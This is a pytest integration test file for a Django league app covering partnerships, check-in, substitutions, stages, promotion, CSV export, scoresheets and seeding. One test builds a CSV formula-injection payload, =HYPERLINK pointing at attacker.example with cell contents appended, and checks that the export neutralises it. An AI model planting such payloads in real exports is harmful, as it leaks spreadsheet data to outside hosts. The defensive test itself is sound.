"""Partnerships, check-in, substitution, stages, promotion, CSV export, scoresheets and
seeding from the ratings projection, against real PostgreSQL; the issue's refusals over
HTTP as 4xx {code, message} with the event count unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from rest_framework.test import APIClient

from leagues.core.errors import LeagueError
from leagues.core.ratings import PlayerRating as Rating
from leagues.core.ratings import team_ordinal
from leagues.models import PlayerRating
from leagues.services.streams import load
from tests.integration.leagues import builders as lg
from tests.integration.leagues.builders import add_season, create_league

from .conftest import entrants_of, event_count
from .test_services import play_round
from .test_verify_and_api import client_for

pytestmark = pytest.mark.django_db(transaction=True)


def refused(call: Any, code: str) -> None:
    """``call`` raises LeagueError ``code`` and writes nothing."""
    before = event_count()
    with pytest.raises(LeagueError) as refusal:
        call()
    assert refusal.value.code == code, refusal.value.message
    assert event_count() == before


def test_a_player_proposes_a_partnership_and_the_partner_confirms(
    organiser: Any, swiss: Any, players: Any
) -> None:
    cid = swiss(2)
    me, partner, other = players(3)
    mine, theirs = client_for(me), client_for(partner)
    response = mine.post(
        f"/api/competitions/{cid}/partnerships",
        {"partner": str(partner.pk), "name": "Us"},
        format="json",
    )
    assert response.status_code == 201, response.json()
    proposal = response.json()["proposal_id"]
    assert len(load(cid).entrants) == 2  # not an entrant until confirmed
    before = event_count()
    response = client_for(other).post(
        f"/api/competitions/{cid}/partnerships/{proposal}/confirm", {}, format="json"
    )
    assert response.status_code == 403 and response.json()["code"] == "not_your_proposal"
    assert event_count() == before
    response = theirs.post(
        f"/api/competitions/{cid}/partnerships/{proposal}/confirm", {}, format="json"
    )
    assert response.status_code == 200, response.json()
    state = load(cid)
    entrant = state.entrants[f"p-{proposal}"]
    assert entrant.players == (str(me.pk), str(partner.pk)) and entrant.name == "Us"
    # Either partner proposing again is in two entrants now.
    refused(
        lambda: lg.propose_partnership(partner, cid, partner=str(other.pk)),
        "player_in_two_entrants",
    )
    refused(lambda: lg.confirm_partnership(partner, cid, proposal), "unknown_proposal")


def test_check_in_gates_pairing_and_a_player_checks_their_own_entrant_in(
    organiser: Any, swiss: Any, players: Any
) -> None:
    cid = swiss(2, check_in=True)
    state = load(cid)
    refused(lambda: lg.pair_next_round(organiser, cid), "not_checked_in")
    player = state.entrants["e1"].players[0]
    own = _users(player)[0]
    lg.check_in(own, cid, "e1")
    stranger = players(1)[0]
    refused(lambda: lg.check_in(stranger, cid, "e2"), "not_organiser")
    refused(lambda: lg.check_in(organiser, cid, "e1"), "already_checked_in")
    refused(lambda: lg.pair_next_round(organiser, cid), "not_checked_in")
    lg.check_in(organiser, cid, "e2")
    _, number, _ = lg.pair_next_round(organiser, cid)
    assert number == 1
    assert load(cid).checked_in[1] == {"e1", "e2"}


def _users(*pks: str) -> list[Any]:
    from django.contrib.auth import get_user_model

    return list(get_user_model().objects.filter(pk__in=[int(pk) for pk in pks]))


def test_a_substitute_plays_from_the_next_round_and_the_record_keeps_who_sat(
    organiser: Any, swiss: Any, players: Any
) -> None:
    cid = swiss(4, rounds=2)
    lg.pair_next_round(organiser, cid)
    play_round(organiser, cid, 1)
    state = load(cid)
    out = state.entrants["e1"].players[1]
    reserve = str(players(1)[0].pk)
    refused(
        lambda: lg.substitute(
            organiser, cid, "e1", player_out=out, player_in=state.entrants["e2"].players[0]
        ),
        "player_in_two_entrants",
    )
    refused(
        lambda: lg.substitute(organiser, cid, "e1", player_out="nobody", player_in="x"),
        "not_in_entrant",
    )
    lg.substitute(organiser, cid, "e1", player_out=out, player_in=reserve)
    state = load(cid)
    assert out in state.players_in("e1", 1) and reserve not in state.players_in("e1", 1)
    assert reserve in state.players_in("e1", 2) and out not in state.players_in("e1", 2)
    assert state.entrants["e1"].players[1] == out  # the entrant itself is never edited


def test_swiss_then_a_knockout_of_the_top_four(organiser: Any, swiss: Any) -> None:
    cid = swiss(
        6,
        rounds=2,
        stages=[{"kind": "swiss", "rounds": 2, "advance": 4}, {"kind": "knockout"}],
    )
    for number in (1, 2):
        lg.pair_next_round(organiser, cid)
        play_round(organiser, cid, number)
    refused(lambda: lg.pair_next_round(organiser, cid), "stage_not_advanced")
    top_four = load(cid).competition().standings().order()[:4]
    lg.advance_stage(organiser, cid)
    _, number, _ = lg.pair_next_round(organiser, cid)
    semis = load(cid).paired_round(number)
    assert semis is not None
    assert sorted(semis.pairing.entrants()) == sorted(top_four)
    # Seed 1 meets seed 4 and seed 2 meets seed 3 (the Swiss standings seed the bracket).
    meetings = {frozenset((m.north_south, m.east_west)) for m in semis.pairing.matches}
    assert meetings == {
        frozenset((top_four[0], top_four[3])),
        frozenset((top_four[1], top_four[2])),
    }
    play_round(organiser, cid, number)
    _, final, _ = lg.pair_next_round(organiser, cid)
    assert len(load(cid).paired_round(final).pairing.matches) == 1  # type: ignore[union-attr]
    play_round(organiser, cid, final)
    assert load(cid).finished


def test_the_final_standings_promote_and_relegate_into_the_next_season(
    organiser: Any, players: Any
) -> None:
    league = create_league(organiser, {"name": "Club League"})
    spec = {"stages": [{"kind": "swiss", "rounds": 1}]}
    first = add_season(
        organiser,
        league["id"],
        {"season": "2026", "divisions": ["top", "second"], "competition": spec},
    )
    divisions = first["seasons"][0]["divisions"]
    users = players(16)
    for index, division in enumerate(("top", "second")):
        cid = divisions[division]
        for entrant in entrants_of(users[8 * index : 8 * index + 8]):
            entrant["entrant_id"] = f"{division}-{entrant['entrant_id']}"
            lg.enter(organiser, cid, **entrant)
        lg.pair_next_round(organiser, cid)
        play_round(organiser, cid, 1)
    orders = {d: load(divisions[d]).competition().standings().order() for d in divisions}
    second = add_season(
        organiser,
        league["id"],
        {
            "season": "2027",
            "divisions": ["top", "second"],
            "competition": spec,
            "promote": {"from": "2026", "up": 1, "down": 1},
        },
    )
    new = second["seasons"][1]["divisions"]
    # The partnerships are invited again: each player accepts the new season as they
    # accepted the last; nobody is entered on the organiser's word.
    top_state, lower_state = load(new["top"]), load(new["second"])
    assert not top_state.entrants and not lower_state.entrants
    top, lower = set(top_state.invitations), set(lower_state.invitations)
    assert top == (set(orders["top"][:-1]) | {orders["second"][0]})
    assert lower == (set(orders["second"][1:]) | {orders["top"][-1]})
    promoted = orders["second"][0]
    lg.accept_all(new["top"], promoted)
    assert set(load(new["top"]).entrants) == {promoted}


def test_the_csv_export_lists_every_record(organiser: Any, swiss: Any) -> None:
    cid = swiss(5, rounds=2)
    lg.pair_next_round(organiser, cid)
    play_round(organiser, cid, 1)
    first = load(cid).results[0]
    lg.correct_result(
        organiser,
        cid,
        first.id,
        points={"north_south": -40, "east_west": 110},
        winner="east_west",
        reason="swapped on the sheet",
    )
    response = APIClient().get(f"/api/competitions/{cid}/export?as=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="competition-{cid}.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfrecord,")  # the UTF-8 byte order mark
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    results = [row for row in rows if row["record"] == "result"]
    assert len(results) == 3  # two boards and the correction
    correction = next(r for r in results if r["corrects"])
    assert correction["corrects"] == first.id and correction["winner"] == "east_west"
    assert (correction["ns_match_points"], correction["ew_match_points"]) == ("0", "2")
    # A negative score is a number, written as one (only text cells are neutralised).
    assert correction["ns_game_points"] == "-40"
    # Names beside the ids: the entrants' names and the players' usernames.
    state = load(cid)
    names = {e.id: e.name for e in state.entrants.values()}
    assert correction["north_south_name"] == names[correction["north_south"]]
    assert correction["east_west_name"] == names[correction["east_west"]]
    first_entrant = next(row for row in rows if row["record"] == "entrant")
    assert first_entrant["name"] == "Pair 1"
    usernames = dict(get_user_model().objects.values_list("pk", "username"))
    assert first_entrant["player_1_username"] == usernames[int(first_entrant["player_1"])]
    assert first_entrant["player_2_username"].startswith("player")
    assert [row["round"] for row in rows if row["record"] == "bye"] == ["1"]
    assert len([row for row in rows if row["record"] == "entrant"]) == 5
    assert len([row for row in rows if row["record"] == "pairing"]) == 2
    standings = [row for row in rows if row["record"] == "standing"]
    assert [row["rank"] for row in standings] == ["1", "2", "3", "4", "5"]
    assert all(row["tb_buchholz"] != "" for row in standings)


def test_the_csv_export_writes_no_live_formula(organiser: Any, swiss: Any, players: Any) -> None:
    """A name a spreadsheet would run (issue 17: ``=HYPERLINK(...)``) is written as text."""
    cid = swiss(2, rounds=1, name="+SUM(1,1)")
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Pair 3")'
    lg.enter(
        organiser,
        cid,
        entrant_id="e3",
        players=[str(user.pk) for user in players(2)],
        name=hostile,
    )
    response = APIClient().get(f"/api/competitions/{cid}/export?as=csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert next(r for r in rows if r["record"] == "entrant" and r["entrant"] == "e3")["name"] == (
        "'" + hostile
    )
    assert next(r for r in rows if r["record"] == "competition")["name"] == "'+SUM(1,1)"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


SHEET = {
    "hands": [
        {
            "bids": {"north": 4, "east": 2, "south": 4, "west": 1},
            "tricks": {"north": 5, "east": 2, "south": 5, "west": 1},
        },
        {
            "bids": {"north": 4, "east": 2, "south": 4, "west": 1},
            "tricks": {"north": 5, "east": 2, "south": 5, "west": 1},
        },
    ]
}


def test_a_scoresheet_result_counts_like_a_table_result(organiser: Any, swiss: Any) -> None:
    cid = swiss(2, rounds=1)
    lg.pair_next_round(organiser, cid)
    response = client_for(organiser).post(
        f"/api/competitions/{cid}/rounds/1/results",
        {"board": 1, "scoresheet": SHEET},
        format="json",
    )
    assert response.status_code == 201, response.json()
    state = load(cid)
    [result] = state.results
    # Each hand: North-South bid 8, took 10 (80 + 2 bags); East-West bid 3, took 3.
    assert (result.north_south_points, result.east_west_points) == (164, 60)
    assert result.winner == "north_south"
    assert state.result_info[result.id].source == "scoresheet"
    assert state.result_info[result.id].hands == 2
    assert state.closed == {1} and state.finished
    standings = APIClient().get(f"/api/competitions/{cid}/standings").json()
    rows = standings["standings"]["rows"]
    assert rows[0]["entrant"] == result.north_south and rows[0]["match_points"] == 2


def test_a_scoresheet_short_of_the_target_is_refused(organiser: Any, swiss: Any) -> None:
    cid = swiss(2, rounds=1)
    lg.pair_next_round(organiser, cid)
    before = event_count()
    response = client_for(organiser).post(
        f"/api/competitions/{cid}/rounds/1/results",
        {"board": 1, "scoresheet": {"hands": SHEET["hands"][:1]}},
        format="json",
    )
    assert response.status_code == 400
    assert response.json()["code"] == "bad_scoresheet"
    assert event_count() == before


def test_an_entrant_without_a_rating_is_seeded_from_the_ratings_projection(
    organiser: Any, swiss: Any, players: Any
) -> None:
    cid = swiss(0)
    strong, weak = players(2), players(2)
    PlayerRating.objects.bulk_create(
        [
            PlayerRating(pool="site", player=str(strong[0].pk), mu=35.0, sigma=4.0, matches=9),
            PlayerRating(pool="site", player=str(strong[1].pk), mu=32.0, sigma=5.0, matches=9),
        ]
    )
    ratings = {
        row.player: Rating(row.player, row.mu, row.sigma, row.matches)
        for row in PlayerRating.objects.all()
    }
    lg.enter(organiser, cid, entrant_id="strong", players=[str(u.pk) for u in strong])
    lg.enter(organiser, cid, entrant_id="weak", players=[str(u.pk) for u in weak], rating=None)
    lg.enter(organiser, cid, entrant_id="manual", players=[str(u.pk) for u in players(2)], rating=7)
    entrants = load(cid).entrants
    expected = round(team_ordinal(ratings, [str(u.pk) for u in strong]) * 1000)
    assert entrants["strong"].rating == expected == round((67 - 3 * 41**0.5) * 1000)
    assert entrants["weak"].rating == round((50 - 25 * 2**0.5) * 1000)  # two unrated
    assert entrants["manual"].rating == 7
    # Round 1's seeded fold puts the highest rating first: strong sits on board 1.
    lg.pair_next_round(organiser, cid)
    board_one = load(cid).paired_round(1).pairing.matches[0]  # type: ignore[union-attr]
    assert "strong" in (board_one.north_south, board_one.east_west)


# ---------------------------------------------------------------- refusals over HTTP


def problem(response: Any, code: str) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.content)
    body = response.json()
    assert set(body) == {"code", "message"} and body["code"] == code, body
    assert body["message"]


def test_every_refusal_is_a_problem_and_writes_nothing(organiser: Any, swiss: Any) -> None:
    own = client_for(organiser)
    closed = own.post(
        "/api/competitions",
        {"name": "Closed", "registration_closes_at": "2020-01-01T00:00:00+00:00"},
        format="json",
    ).json()["id"]
    cid = swiss(4, rounds=3)
    first_player = load(cid).entrants["e1"].players[0]
    base = f"/api/competitions/{cid}"
    before = event_count()
    cases = [
        (
            own.post(
                f"/api/competitions/{closed}/entrants",
                {"entrant_id": "x", "players": ["a", "b"]},
                format="json",
            ),
            "registration_closed",
        ),
        (
            own.post(
                f"{base}/entrants", {"entrant_id": "e9", "players": [first_player, "zz"]}, "json"
            ),
            "player_in_two_entrants",
        ),
        (own.post(f"{base}/entrants/ghost/withdraw", {}, format="json"), "unknown_entrant"),
        (
            own.post(
                f"{base}/rounds/1/results",
                {"board": 1, "points": {"north_south": 1, "east_west": 0}, "winner": "north_south"},
                format="json",
            ),
            "match_not_in_play",
        ),
        (APIClient().get(f"{base}/standings?tiebreaks=wins,nonsense"), "unknown_tiebreak"),
        (
            own.post(
                "/api/competitions", {"name": "Bad", "tiebreaks": ["buchholz", "nonsense"]}, "json"
            ),
            "unknown_tiebreak",
        ),
    ]
    for response, code in cases:
        problem(response, code)
    assert event_count() == before
    assert own.post(f"{base}/rounds", {}, format="json").status_code == 201
    before = event_count()
    problem(own.post(f"{base}/rounds", {}, format="json"), "round_not_closed")
    problem(
        own.post(
            f"{base}/rounds/2/results",
            {"board": 1, "points": {"north_south": 1, "east_west": 0}, "winner": "north_south"},
            format="json",
        ),
        "match_not_in_play",
    )
    assert event_count() == before


def test_the_overview_says_who_is_checked_in_and_who_plays_and_a_no_show_is_flagged(
    organiser: Any, swiss: Any, players: Any
) -> None:
    """What the organiser page draws from the reads: the next round's check-ins, the players
    after a substitution, and a forfeit recorded over HTTP as a no-show."""
    cid = swiss(2, check_in=True)
    api = client_for(organiser)
    read = lambda: api.get(f"/api/competitions/{cid}").json()  # noqa: E731
    overview = read()
    assert overview["next_round"] == 1
    assert [e["checked_in"] for e in overview["entrants"]] == [False, False]
    response = api.post(f"/api/competitions/{cid}/entrants/e1/check-in", {}, format="json")
    assert response.status_code == 200, response.json()
    assert [e["checked_in"] for e in read()["entrants"]] == [True, False]

    e1 = overview["entrants"][0]
    reserve = str(players(1)[0].pk)
    response = api.post(
        f"/api/competitions/{cid}/entrants/e1/substitute",
        {"player_out": e1["players"][1], "player_in": reserve},
        format="json",
    )
    assert response.status_code == 200, response.json()
    after = read()["entrants"][0]
    assert after["players"] == e1["players"]  # the registration is never edited
    assert after["playing"] == [e1["players"][0], reserve]

    lg.check_in(organiser, cid, "e2")
    lg.pair_next_round(organiser, cid)
    assert read()["next_round"] == 2
    before = event_count()
    response = api.post(
        f"/api/competitions/{cid}/rounds/1/results",
        {"board": 1, "forfeited_by": "east_west", "no_show": True, "reason": "Nobody came"},
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert event_count() > before
    result = response.json()["round"]["matches"][0]["result"]
    assert result["forfeited_by"] == "east_west" and result["no_show"] is True
    assert result["winner"] == "north_south"


def test_a_substituted_player_is_in_that_entrant_only(
    organiser: Any, swiss: Any, players: Any
) -> None:
    """A player who came in as a substitute (not the registered reserve) counts as in that
    entrant: another entrant cannot take them as its substitute or late entrant."""
    cid = swiss(4, rounds=3)
    lg.pair_next_round(organiser, cid)
    play_round(organiser, cid, 1)
    state = load(cid)
    newcomer, other = (str(u.pk) for u in players(2))
    e1_out = state.entrants["e1"].players[1]
    lg.substitute(organiser, cid, "e1", player_out=e1_out, player_in=newcomer)
    before = event_count()
    refused(
        lambda: lg.substitute(
            organiser, cid, "e2", player_out=state.entrants["e2"].players[0], player_in=newcomer
        ),
        "player_in_two_entrants",
    )
    refused(
        lambda: lg.late_join(
            organiser, cid, entrant_id="late", players=[newcomer, other], name="Late"
        ),
        "player_in_two_entrants",
    )
    assert event_count() == before


def test_check_in_gates_the_knockout_rounds_too_for_the_qualifiers_only(
    organiser: Any, swiss: Any
) -> None:
    """Check-in is before each round (docs/leagues.md): a knockout after a Swiss waits
    for the entrants it pairs, and only for them (the eliminated need not sign)."""
    cid = swiss(
        6,
        rounds=2,
        check_in=True,
        stages=[{"kind": "swiss", "rounds": 2, "advance": 4}, {"kind": "knockout"}],
    )
    for number in (1, 2):
        for entrant in sorted(load(cid).entrants):
            lg.check_in(organiser, cid, entrant)
        lg.pair_next_round(organiser, cid)
        play_round(organiser, cid, number)
    top_four = load(cid).competition().standings().order()[:4]
    lg.advance_stage(organiser, cid)
    refused(lambda: lg.pair_next_round(organiser, cid), "not_checked_in")
    for entrant in top_four[:3]:
        lg.check_in(organiser, cid, entrant)
    with pytest.raises(LeagueError) as refusal:
        lg.pair_next_round(organiser, cid)
    assert refusal.value.code == "not_checked_in" and top_four[3] in refusal.value.message
    lg.check_in(organiser, cid, top_four[3])
    _, number, _ = lg.pair_next_round(organiser, cid)
    assert number == 3
